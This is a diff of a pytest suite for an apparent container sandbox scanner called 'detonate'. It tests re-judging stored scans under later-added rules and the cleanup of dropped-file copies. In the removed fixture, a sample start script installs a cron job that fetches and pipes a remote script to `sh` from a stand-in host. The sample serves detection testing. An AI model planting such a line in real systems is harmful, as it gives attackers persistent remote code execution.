@@ -11,107 +11,23 @@ import gzip
 import json
 import threading
 from collections import Counter
-from collections.abc import Iterator
-from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
 from sqlalchemy import func, select, update
 
 from detonate.cli.main import main
-from detonate.factory import LayerSpec, write_oci_archive
-from detonate.factory.busybox import busybox_layer
-from detonate.factory.spec import FileSpec, ImageSpec
-from detonate.model.options import SandboxOptions, ScanOptions
 from detonate.model.report import Report
-from detonate.pipeline import rejudge, scan
+from detonate.pipeline import rejudge
 from detonate.queue.worker import run_scan
 from detonate.rules.loader import forget_fingerprints, ruleset_hash
-from detonate.store import ScanStatus, Source, Store, StoredRun
-from detonate.store.models import Judgement, RunRecordRow
-from detonate.store_rejudge import Outcome, rejudge_store
-from detonate.stored_runs import capture, materialized
-from sandbox.busybox_image import sandbox_available
+from detonate.store import ScanStatus, Source, Store
+from detonate.store.models import DroppedFileCopy, Judgement, RunRecordRow
+from detonate.store.rejudge import Outcome, rejudge_store
+from detonate.store.stored_runs import materialized
 
-STATE = "/var/lib/app/state.txt"
-CRON = "/etc/cron.d/refresh"
-# Keeps its state in a file and installs a cron line (whose text a detector reads from the
-# run's copy of the file: a rejudge from the store must see it too).
-START = f"""#!/bin/sh
-mkdir -p /var/lib/app /etc/cron.d
-echo "generation 1" > {STATE}
-echo '*/5 * * * * root wget -q -O- http://updates.example.test/s.sh | sh' > {CRON}
-echo started
-"""
-LATER_RULE = f"""title: Application state written (test rule added after the scans)
-why: >
-  A rule written after the scans were stored: re-judging them must apply it.
-severity: critical
-confidence: high
-category: weaponization
-technique: T1098
-subject: file_change
-match:
-  path: {{is: {STATE}}}
-"""
-
-
-@dataclass(frozen=True)
-class Scanned:
-    archive: Path
-    report: Report
-    run: StoredRun
-    options: ScanOptions
-
-
-def _options(cache: Path) -> ScanOptions:
-    return ScanOptions(cache_dir=cache, sandbox=SandboxOptions(timeout_seconds=20, idle_seconds=2))
-
-
-@pytest.fixture(scope="module")
-def scanned(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
-    """One real scan of the factory image, with the run as the store would keep it."""
-    if not sandbox_available():
-        pytest.skip("needs root, runc, strace and /bin/busybox")
-    base = tmp_path_factory.mktemp("rejudge-store")
-    spec = ImageSpec(
-        name="state-and-cron",
-        layers=(
-            busybox_layer(),
-            LayerSpec((FileSpec("/start.sh", content=START.encode(), mode=0o755),)),
-        ),
-        entrypoint=("/start.sh",),
-    )
-    archive = base / "image.oci.tar"
-    write_oci_archive(spec, archive)
-    options = _options(base / "cache")
-    artifacts = base / "artifacts"
-    report = scan(f"oci-archive:{archive}", replace(options, artifacts_dir=artifacts))
-    assert report.error is None, report.error
-    run = capture(artifacts)
-    assert run.data is not None, run.reason
-    return Scanned(archive, report, run, options)
-
-
-@pytest.fixture
-def later_rules(tmp_path: Path) -> Iterator[Path]:
-    rules = tmp_path / "rules"
-    rules.mkdir()
-    (rules / "state-written.yaml").write_text(LATER_RULE)
-    forget_fingerprints()
-    yield rules
-    forget_fingerprints()
-
-
-def _stored(store: Store, scanned: Scanned, number: int) -> str:
-    """A done scan of its own digest with the real scan's report and run record."""
-    digest = f"sha256:{number:064x}"
-    record, _ = store.request_scan(
-        f"oci-archive:{scanned.archive}", digest=digest, platform="linux/amd64", source=Source.API
-    )
-    store.mark_running(record.id)
-    store.record_report(record.id, scanned.report, scanned.run)
-    return record.id
+from .stored_scans import CRON, Scanned
+from .stored_scans import stored as stored_scan
 
 
 def _judgement_count(store: Store, scan_id: str) -> int:
@@ -172,7 +88,7 @@ def test_a_rule_added_later_changes_the_verdict_of_a_worker_scan(
 
 @pytest.mark.sandbox
 def test_the_same_rules_judge_a_stored_run_as_the_scan_did(store: Store, scanned: Scanned) -> None:
-    scan_id = _stored(store, scanned, 1)
+    scan_id = stored_scan(store, scanned, 1)
 
     summary = rejudge_store(store, everything=True)
 
@@ -199,11 +115,11 @@ def _judged(report: Report) -> tuple[object, ...]:
 def test_a_record_that_cannot_be_read_is_reported_and_the_report_kept(
     store: Store, scanned: Scanned, later_rules: Path
 ) -> None:
-    corrupt = _stored(store, scanned, 1)
-    newer = _stored(store, scanned, 2)
-    missing = _stored(store, scanned, 3)
-    good = _stored(store, scanned, 4)
-    no_copies = _stored(store, scanned, 5)
+    corrupt = stored_scan(store, scanned, 1)
+    newer = stored_scan(store, scanned, 2)
+    missing = stored_scan(store, scanned, 3)
+    good = stored_scan(store, scanned, 4)
+    no_copies = stored_scan(store, scanned, 5)
     newer_record = json.loads(gzip.decompress(scanned.run.data or b""))
     newer_data = gzip.compress(json.dumps({**newer_record, "version": 99}).encode())
     with store.engine.begin() as connection:
@@ -241,7 +157,7 @@ def test_a_record_that_cannot_be_read_is_reported_and_the_report_kept(
 def test_rejudges_beside_a_running_scan_lose_and_duplicate_nothing(
     store: Store, scanned: Scanned, later_rules: Path
 ) -> None:
-    stored = [_stored(store, scanned, number) for number in range(1, 13)]
+    stored = [stored_scan(store, scanned, number) for number in range(1, 13)]
     running, _ = store.request_scan(
         f"oci-archive:{scanned.archive}",
         digest=scanned.report.image.digest,
@@ -298,8 +214,8 @@ def test_the_command_lists_and_counts_the_changes(
     capsys: pytest.CaptureFixture[str],
     tmp_path: Path,
 ) -> None:
-    changed = _stored(store, scanned, 1)
-    unreadable = _stored(store, scanned, 2)
+    changed = stored_scan(store, scanned, 1)
+    unreadable = stored_scan(store, scanned, 2)
     with store.engine.begin() as connection:
         connection.execute(
             update(RunRecordRow).where(RunRecordRow.scan_id == unreadable).values(data=b"junk")
@@ -331,3 +247,29 @@ def test_the_command_lists_and_counts_the_changes(
     assert main(["rejudge", "--db", url, "--rules", str(broken), "--all"]) == 2
     assert "Traceback" not in capsys.readouterr().err
     assert [j.kind for j in store.judgements(changed)] == ["scan", "rejudge"]  # untouched
+
+
+@pytest.mark.sandbox
+def test_dropped_file_copies_go_with_the_last_record_that_names_them(
+    store: Store, scanned: Scanned
+) -> None:
+    first = stored_scan(store, scanned, 1)
+    second = stored_scan(store, scanned, 2)  # the same dropped files: the copies are shared
+    copies = set(scanned.run.copies)
+    assert copies, "the scan dropped files"
+
+    def kept() -> set[str]:
+        with store.engine.connect() as connection:
+            return set(connection.execute(select(DroppedFileCopy.sha256)).scalars())
+
+    assert kept() == copies
+    # A report stored over the scan without a record (as a CLI `--store` scan of the same
+    # image and rules does): the other scan still names the copies, so they stay.
+    store.record_report(first, scanned.report)
+    assert store.stored_run(first) is None and kept() == copies
+    second_run = store.stored_run(second)
+    assert second_run is not None and set(second_run.copies) == copies
+
+    store.record_report(second, scanned.report)
+
+    assert kept() == set()  # no record names them any more
